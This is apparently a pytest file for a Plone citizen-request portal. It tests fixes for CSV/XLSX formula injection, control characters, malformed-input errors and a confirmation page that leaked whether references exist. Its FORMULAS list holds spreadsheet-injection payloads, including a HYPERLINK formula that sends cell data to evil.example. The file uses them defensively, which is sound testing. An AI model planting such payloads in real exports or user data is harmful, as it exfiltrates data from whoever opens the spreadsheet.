"""Issue #10, what an outside review found in the data the guichet takes
and gives back: formulas in exports (1), characters that break them (2),
500s that must be 400s (8), the confirmation page telling which references
exist (9). File names are tested with the uploads (test_uploads.py)."""

from fixtures.accounts import PASSWORD
from fixtures.forms import VALID_DATA
from fixtures.pages import fill_valid
from imio.guichet.forms.validation import MESSAGES
from imio.guichet.submissions.api import get_store
from imio.guichet.submissions.references import new_reference
from openpyxl import load_workbook
from plone.testing.zope import Browser
from zope.i18n import translate

import csv
import importlib.util
import io
import json
import pathlib
import pytest
import re
import requests
import transaction


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "@SUM(1)",
    "+cmd",
    "-1+1",
]
EXPORT = "demarches/x/@submissions-export"


def post_json(session, path, body: str):
    """POST a JSON text as is (lone surrogates stay escaped in it)."""
    return session.post(
        path, data=body.encode(), headers={"Content-Type": "application/json"}
    )


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


def xlsx_rows(response) -> list[dict]:
    """The rows of an XLSX export: column -> cell (to see its data_type)."""
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    # A field's header is "Label (name)" in the reader's language; the
    # fixed columns are their names: keyed by name.
    header = [re.sub(r"^.* \(([^()]+)\)$", r"\1", cell.value) for cell in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


# -- 1. formulas


@pytest.fixture
def formulas_filed(site, session_for):
    anon = session_for("Anonymous")
    for formula in FORMULAS:
        data = {**VALID_DATA, "name": formula, "comment": formula}
        response = anon.post("demarches/x/@submissions", json={"data": data})
        assert response.status_code == 201, response.text
    return FORMULAS


def test_csv_cells_never_start_a_formula(formulas_filed, session_for):
    rows = csv_rows(session_for("backoffice_x").get(EXPORT))
    assert [row["name"] for row in rows] == ["'" + f for f in FORMULAS]
    assert [row["comment"] for row in rows] == ["'" + f for f in FORMULAS]
    assert rows[0]["copies"] == "2"


def test_xlsx_cells_are_text_never_formulas(formulas_filed, session_for):
    rows = xlsx_rows(session_for("backoffice_x").get(f"{EXPORT}?format=xlsx"))
    for row, formula in zip(rows, FORMULAS, strict=True):
        for column in ("name", "comment"):
            assert row[column].data_type == "s"
            assert row[column].value == formula


def test_jsonl_keeps_answers_as_typed(formulas_filed, session_for):
    response = session_for("backoffice_x").get(f"{EXPORT}?format=jsonl")
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert [line["data"]["name"] for line in lines] == FORMULAS


def test_formula_typed_in_the_html_form(site, session_for):
    browser = Browser(site.aq_parent)
    browser.handleErrors = False
    browser.open(site.demarches.x.absolute_url() + "/@@submit")
    fill_valid(browser)
    browser.getControl("Nom").value = FORMULAS[0]
    browser.getControl("Commentaire").value = "@SUM(1)"
    browser.getControl(name="form.buttons.send").click()
    assert "@@confirmation" in browser.url
    office = session_for("backoffice_x")
    (row,) = csv_rows(office.get(EXPORT))
    assert (row["name"], row["comment"]) == ("'" + FORMULAS[0], "'@SUM(1)")
    (row,) = xlsx_rows(office.get(f"{EXPORT}?format=xlsx"))
    assert (row["name"].data_type, row["name"].value) == ("s", FORMULAS[0])


def test_staff_page_export_neutralises_formulas(formulas_filed, site):
    url = f"{site.demarches.x.absolute_url()}/@@guichet-export"
    auth = ("backoffice_x", PASSWORD)
    rows = csv_rows(requests.get(url, params={"format": "csv"}, auth=auth))
    assert [row["name"] for row in rows] == ["'" + f for f in FORMULAS]
    rows = xlsx_rows(requests.get(url, params={"format": "xlsx"}, auth=auth))
    assert [(row["name"].data_type, row["name"].value) for row in rows] == [
        ("s", f) for f in FORMULAS
    ]


def test_command_line_export_neutralises_formulas(portal, procedure, capsysbinary):
    from imio.guichet.submissions.api import submit

    script = pathlib.Path(__file__).parents[2] / "scripts" / "export_submissions.py"
    spec = importlib.util.spec_from_file_location("export_submissions", script)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    submit(procedure, {**VALID_DATA, "name": "=1+1"}, submitter=None)
    path = "/".join(procedure.getPhysicalPath())
    assert module.main(portal.aq_parent, ["--user", "admin", path, "csv"]) == 0
    out, _err = capsysbinary.readouterr()
    (row,) = csv.DictReader(io.StringIO(out.decode()))
    assert row["name"] == "'=1+1"


def test_audit_csv_neutralises_formulas(portal):
    from imio.guichet.audit.api import record_as
    from imio.guichet.audit.api import write_csv

    record_as("=1+1", "export", [], {"count": 0})
    record_as("@SUM(1)", "export", [], {"query": "\ud800"})
    written = []
    write_csv(written.append)
    rows = list(csv.DictReader(io.StringIO(b"".join(written).decode())))
    assert [row["actor"] for row in rows] == ["'=1+1", "'@SUM(1)"]
    assert json.loads(rows[1]["details"]) == {"query": "\ufffd"}


def test_plain_numbers_stay_numbers():
    from imio.guichet.spreadsheets import csv_cell

    assert [csv_cell(v) for v in ("-12", "-1.5", "+32 81", 3)] == [
        "-12",
        "-1.5",
        "'+32 81",
        3,
    ]


def test_batch_csv_writes_what_cell_by_cell_writes():
    """Exports neutralise cells one by one but replace lone surrogates in a
    whole batch's text: the same bytes as cell by cell."""
    from imio.guichet.spreadsheets import csv_bytes
    from imio.guichet.spreadsheets import csv_row
    from imio.guichet.spreadsheets import csv_rows_text

    rows = [
        ["=1+1", "-12", "-1.5\n", "+32 81", "@x", "\tx", "\rx", 3, None, ""],
        ["\ud800=1", "=\udfff", "a,b\ud800", 'say "\ud800"', "x\ny", "-", "'"],
    ]

    def written(rows) -> str:
        buffer = io.StringIO()
        csv.writer(buffer).writerows(rows)
        return buffer.getvalue()

    cell_by_cell = written([csv_row(row) for row in rows]).encode("utf-8")
    assert csv_bytes(written(csv_rows_text(rows))) == cell_by_cell
    assert "'=1+1" in cell_by_cell.decode() and "\ufffd=1" in cell_by_cell.decode()


# -- 2. characters


@pytest.mark.parametrize(
    "field,value",
    [
        ("name", "a\u000bb"),
        ("name", "a\u0000b"),
        ("name", "a\tb"),  # one line: no tab
        ("comment", "a\u0000b"),
        ("comment", "a\u007fb"),
        ("name", "x\ud800"),
        ("comment", "\udfffx"),
    ],
)
def test_rest_refuses_control_characters(site, session_for, field, value):
    body = json.dumps({"data": {**VALID_DATA, field: value}})  # "\ud800" escaped
    response = post_json(session_for("Anonymous"), "demarches/x/@submissions", body)
    assert response.status_code == 400, response.text
    errors = response.json()["error"]["errors"]
    assert [(e["field"], e["code"]) for e in errors] == [(field, "invalid_characters")]
    transaction.begin()
    assert len(get_store() or ()) == 0


def test_tabs_and_line_breaks_where_text_spans_lines(site, session_for):
    data = {**VALID_DATA, "comment": "Deux\tcopies\r\nmerci"}
    response = session_for("Anonymous").post(
        "demarches/x/@submissions", json={"data": data}
    )
    assert response.status_code == 201, response.text


def test_html_form_refuses_control_characters(site):
    browser = Browser(site.aq_parent)
    browser.handleErrors = False
    browser.open(site.demarches.x.absolute_url() + "/@@submit")
    fill_valid(browser)
    browser.getControl("Nom").value = "Jeanne\u000bDupont"
    browser.getControl(name="form.buttons.send").click()
    assert "@@confirmation" not in browser.url
    field = browser.contents.split('id="formfield-form-widgets-name"')[1]
    assert "control characters" in field.split("formfield-form-widgets-")[0]
    transaction.begin()
    assert len(get_store() or ()) == 0


def test_invalid_characters_message_in_french(portal):
    assert translate(MESSAGES["invalid_characters"], target_language="fr") == (
        "Cette valeur contient des caractères qui ne peuvent pas être utilisés "
        "ici (caractères de contrôle)."
    )


def test_exports_survive_what_was_stored_before(site, session_for):
    """An answer stored before validation refused such characters (here,
    written into the store directly) leaves every export working."""
    anon = session_for("Anonymous")
    filed = anon.post("demarches/x/@submissions", json={"data": VALID_DATA}).json()
    transaction.begin()
    submission = get_store().get(filed["id"])
    submission.data = {
        **submission.data,
        "name": "Jea\u000bnne\u0000\ud800",
        "comment": "=x\udfff\u007f",
    }
    transaction.commit()
    office = session_for("backoffice_x")
    (row,) = csv_rows(office.get(EXPORT))
    assert row["name"] == "Jea\u000bnne\u0000\ufffd"
    assert row["comment"] == "'=x\ufffd\u007f"
    (row,) = xlsx_rows(office.get(f"{EXPORT}?format=xlsx"))
    assert row["name"].value == "Jeanne\ufffd"
    assert (row["comment"].data_type, row["comment"].value) == ("s", "=x\ufffd\u007f")
    response = office.get(f"{EXPORT}?format=jsonl")
    assert response.status_code == 200
    assert json.loads(response.text)["data"]["name"] == "Jea\u000bnne\u0000\ud800"
    audit = session_for("siteadmin").get("@guichet-audit?format=csv")
    assert audit.status_code == 200


# -- 8. 400s, never 500s, never Python's words

PYTHON_WORDS = ("int()", "fromisoformat", "isoformat string", "Traceback", "recursion")


def assert_our_400(response, *words):
    assert response.status_code == 400, response.text
    text = response.text
    assert not [w for w in PYTHON_WORDS if w.lower() in text.lower()], text
    for word in words:
        assert word in text


@pytest.mark.parametrize(
    "path",
    [
        f"{EXPORT}?state=submitted&state=received",
        f"{EXPORT}?format=csv&format=xlsx",
        "@submissions?state=submitted&state=received",
        "demarches/x/@submissions?limit=1&limit=2",
        "@guichet-audit?limit=1&limit=2",
        "@guichet-audit?format=csv&format=csv",
        "@guichet-tokens?user=a&user=b",
        "@guichet-webhooks?procedure=a&procedure=b",
        "demarches/x/@form-schema?version=1&version=2",
        "@guichet-openapi?a=1&a=2",
    ],
)
def test_repeated_parameter(site, session_for, path):
    response = session_for("Manager").get(path)
    assert_our_400(response, "Each parameter may be given once")


@pytest.mark.parametrize(
    "path",
    [
        "@submissions?limit=\u00b2",
        "@submissions?limit=" + "9" * 5000,
        "@guichet-audit?limit=\u00b2",
        "@guichet-audit?limit=" + "9" * 5000,
    ],
)
def test_numbers_python_takes_for_digits(site, session_for, path):
    assert_our_400(session_for("Manager").get(path))


def test_staff_page_number_python_takes_for_a_digit(site, session_for):
    response = session_for("backoffice_x").get("@@guichet-requests?page=\u00b2")
    assert response.status_code == 200


@pytest.mark.parametrize(
    "who,path",
    [
        ("Anonymous", "demarches/x/@submissions"),
        ("Anonymous", "demarches/x/@drafts"),
        ("Manager", "@guichet-webhooks"),
        ("Manager", "@guichet-tokens"),
    ],
)
@pytest.mark.parametrize("depth", [100_000, 40])
def test_deeply_nested_json_body(site, session_for, who, path, depth):
    body = '{"data": ' + "[" * depth + "]" * depth + "}"
    response = post_json(session_for(who), path, body)
    assert_our_400(response, "nests deeper than 32 levels")


def test_invalid_json_body_in_our_words(site, session_for):
    response = post_json(session_for("Anonymous"), "demarches/x/@submissions", "{")
    assert_our_400(response, "The body is not valid JSON.")
    assert "Expecting" not in response.text


DATETIME_FORM = """\
<model xmlns="http://namespaces.plone.org/supermodel/schema">
  <schema>
    <field name="when" type="zope.schema.Datetime"><title>Quand</title></field>
  </schema>
</model>
"""


@pytest.mark.parametrize(
    "value", ["9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00"]
)
def test_datetimes_at_the_ends_of_time(site, session_for, value):
    site.demarches.y.form_schema = DATETIME_FORM
    transaction.commit()
    response = session_for("Anonymous").post(
        "demarches/y/@submissions", json={"data": {"when": value}}
    )
    assert_our_400(response)
    errors = response.json()["error"]["errors"]
    assert [(e["field"], e["code"]) for e in errors] == [("when", "invalid_datetime")]


@pytest.mark.parametrize(
    "expires",
    ["9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00", "nonsense", 5, []],
)
def test_token_expiry_refused_in_our_words(site, session_for, expires):
    response = session_for("siteadmin").post(
        "@guichet-tokens",
        json={"user": "backoffice_x", "label": "BO", "expires": expires},
    )
    assert_our_400(response, "expires")


# -- 9. the confirmation page


def confirmation(session, procedure, reference, **extra):
    return session.get(
        f"demarches/{procedure}/@@confirmation",
        params={"reference": reference, **extra},
    )


def test_confirmation_tells_nothing_without_the_secret(site, session_for):
    anon = session_for("Anonymous")
    filed = anon.post("demarches/x/@submissions", json={"data": VALID_DATA}).json()
    reference = filed["reference"]
    unknown = new_reference()
    pages = [
        confirmation(anon, "x", reference),
        confirmation(anon, "x", reference, secret="wrong"),
        confirmation(anon, "x", unknown),
        confirmation(anon, "x", unknown, secret="wrong"),
        confirmation(anon, "y", reference),
        confirmation(anon, "y", unknown),
    ]
    assert {page.status_code for page in pages} == {200}
    assert pages[0].text == pages[2].text  # same in x, known or not
    assert pages[1].text == pages[3].text
    assert pages[4].text == pages[5].text  # same in y, filed in x or not
    assert reference not in pages[0].text
    assert "Jeanne" not in pages[0].text


def test_confirmation_with_the_secret_still_shows_the_request(site):
    browser = Browser(site.aq_parent)
    browser.handleErrors = False
    browser.open(site.demarches.x.absolute_url() + "/@@submit")
    fill_valid(browser)
    browser.getControl(name="form.buttons.send").click()
    reference = browser.url.split("reference=")[1]
    assert reference in browser.contents
    assert "Jeanne Dupont" in browser.contents


def test_confirmation_for_the_logged_in_submitter(site, browser_for):
    browser = browser_for("citizen_a")
    browser.open(site.demarches.x.absolute_url() + "/@@submit")
    fill_valid(browser)
    browser.getControl(name="form.buttons.send").click()
    reference = browser.url.split("reference=")[1].split("&")[0]
    browser.open(
        site.demarches.x.absolute_url() + f"/@@confirmation?reference={reference}"
    )
    assert reference in browser.contents


def test_form_import_refuses_other_encodings_in_our_words(site, browser_for):
    browser = browser_for("editor")
    browser.raiseHttpErrors = False
    browser.open(f"{site.demarches.y.absolute_url()}/@@form-xml")
    browser.getControl(name="xml").add_file(
        io.BytesIO("caf\xe9".encode("latin-1")), "application/xml", "f.xml"
    )
    browser.getControl("Import").click()
    assert browser.headers["status"].startswith("400")
    assert "The file is not UTF-8 text." in browser.contents
    assert "codec" not in browser.contents
